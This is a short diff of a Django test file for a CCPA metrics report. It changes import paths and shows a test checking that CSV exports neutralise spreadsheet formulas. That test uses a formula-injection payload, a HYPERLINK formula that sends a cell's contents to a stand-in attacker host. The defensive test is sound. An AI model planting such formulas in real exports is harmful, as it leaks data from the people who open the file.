@@ -18,7 +18,7 @@ from django.utils import timezone
 from privacy.models import AuditEvent
 from privacy.tests.factories import UserFactory
 from requests_app.models import RequestType, Status
-from requests_app.selectors import ccpa_metrics
+from requests_app.selectors.ccpa_metrics import ccpa_metrics
 from requests_app.tests.factories import PrivacyRequestFactory
 
 pytestmark = pytest.mark.django_db
@@ -225,7 +225,7 @@ def test_the_csv_has_the_same_figures_and_is_audited(auditor_client):
 def test_csv_cells_never_run_as_formulas(monkeypatch, auditor_client):
     """A kind's label that starts like a formula (labels are data, and could be edited)
     reaches the CSV as text: the report uses privacy.spreadsheets.neutralise_formula."""
-    from requests_app import selectors
+    from requests_app.selectors import ccpa_metrics as selectors
 
     label = '=HYPERLINK("http://evil.example/?"&A1,"x")'
     monkeypatch.setitem(
